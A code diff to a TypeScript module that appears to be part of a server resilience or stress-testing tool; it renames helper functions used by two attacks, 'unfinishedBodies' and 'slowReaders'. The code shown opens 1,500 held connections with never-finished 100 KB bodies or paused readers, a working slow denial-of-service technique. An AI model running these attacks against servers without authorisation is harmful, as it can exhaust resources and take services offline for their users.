@@ -1,16 +1,16 @@
 import { setTimeout as sleep } from 'node:timers/promises';
-import { type Attack, hold, tally } from '../attack.ts';
+import { type Attack, openConnection, tally } from '../attack.ts';
 
 /** So many a second: it is not their coming that hurts, but that they stay. */
 const AT_ONCE = 10;
 const EVERY_MS = 40;
 
-const heardOf = (heads: { head: string[]; rest: string; reads: boolean }[]): Attack['run'] => {
+const runConnections = (heads: { head: string[]; rest: string; reads: boolean }[]): Attack['run'] => {
   return async (target, until) => {
     const { count, words } = tally();
     for (const [index, { head, rest, reads }] of heads.entries()) {
       if (index % AT_ONCE === 0) await sleep(EVERY_MS);
-      const socket = hold(target, head, rest, until).on('close', () => count('closed'));
+      const socket = openConnection(target, head, rest, until).on('close', () => count('closed'));
       if (reads) socket.on('data', (data) => count(String(data).slice(9, 12)));
       else socket.pause();
     }
@@ -34,7 +34,7 @@ export const unfinishedBodies: Attack = {
     ];
     const started = '['.padEnd(100_000, ' ');
     const heads = Array.from({ length: 1500 }, (_, index) => ({ head: head(index), rest: started, reads: true }));
-    return heardOf(heads)(target, until);
+    return runConnections(heads)(target, until);
   },
 };
 
@@ -48,6 +48,6 @@ export const slowReaders: Attack = {
       rest: '',
       reads: false,
     }));
-    return heardOf(heads)(target, until);
+    return runConnections(heads)(target, until);
   },
 };
